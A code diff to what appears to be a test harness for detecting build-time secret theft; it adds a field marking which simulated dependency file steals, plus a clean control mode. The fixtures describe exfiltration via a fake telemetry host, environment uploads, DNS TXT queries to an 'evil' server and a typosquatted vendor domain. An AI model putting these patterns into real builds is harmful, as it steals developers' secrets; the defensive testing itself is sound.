@@ -79,6 +79,8 @@ class Incident:
 
     files: dict[str, str]
     """Of its workspace, by name; programs."""
+    poisoned: str
+    """Which of them steals; in the builds before it was a program that does nothing."""
     command: str
     """The build's step."""
     culprit: str
@@ -104,6 +106,7 @@ INCIDENTS = {
             "get.js": GET,
             "pkg/setup.js": f"import sys; sys.argv.append('telemetry-collect.example')\n{UPLOAD}",
         },
+        poisoned="pkg/setup.js",
         command="node npm install",
         culprit="node setup.js",
         chain=("dash", "node", "dash", "dash", "node"),
@@ -111,6 +114,7 @@ INCIDENTS = {
     ),
     "an uploader posts the environment to a bare address": Incident(
         files={"get.py": GET, "uploader": "".join(map(posting_the_environment, BOTH)) + "true\n"},
+        poisoned="uploader",
         command="python3 get.py registry.example; bash uploader",
         culprit="bash uploader",
         chain=("dash", "bash", "bash"),
@@ -118,6 +122,7 @@ INCIDENTS = {
     ),
     "a worm uploads to the allowed forge without git": Incident(
         files={"get.js": GET, "bundle.js": f"import sys; sys.argv.append('{FORGE}')\n{UPLOAD}"},
+        poisoned="bundle.js",
         command=f"node get.js {REGISTRY}; {LS_REMOTE} >/dev/null 2>&1; node bundle.js",
         culprit="node bundle.js",
         chain=("dash", "node"),
@@ -128,6 +133,7 @@ INCIDENTS = {
     ),
     "a dependency asks the thief's server for TXT records": Incident(
         files={"get.js": GET, "index.js": EXFILTRATE},
+        poisoned="index.js",
         command=f"node get.js registry.example; node index.js {V4.evil} {V6.evil}",
         culprit="node index.js",
         chain=("dash", "node"),
@@ -140,6 +146,7 @@ INCIDENTS = {
             "entrypoint.sh": "python3 get.py scan.security-vendor.example\npython3 report.py\n",
             "report.py": f"import sys; sys.argv.append('scan.securlty-vendor.example')\n{UPLOAD}",
         },
+        poisoned="report.py",
         command="python3 get.py registry.example; bash entrypoint.sh",
         culprit="python3 report.py",
         chain=("dash", "bash", "python3.11"),
@@ -150,15 +157,16 @@ INCIDENTS = {
 }
 
 
-def workspace(directory: Path, incident: Incident) -> str:
+def workspace(directory: Path, incident: Incident, *, is_poisoned: bool = True) -> str:
     """Write the build's files; returns the PATH with its `node`, which is an interpreter of scripts."""
     for name, text in incident.files.items():
         path = directory / name
         path.parent.mkdir(parents=True, exist_ok=True)
-        path.write_text(text)
-    (directory / "bin").mkdir()
-    shutil.copy(Path("/usr/bin/python3").resolve(), directory / "bin" / "node")
-    return f"{directory / 'bin'}:/usr/bin:/bin"
+        path.write_text(text if is_poisoned or name != incident.poisoned else "")
+    programs = directory / "bin"
+    programs.mkdir()
+    shutil.copy(Path("/usr/bin/python3").resolve(), programs / "node")
+    return f"{programs}:/usr/bin:/bin"
 
 
 def thefts(egress: Iterable[Span], incident: Incident) -> list[Span]:
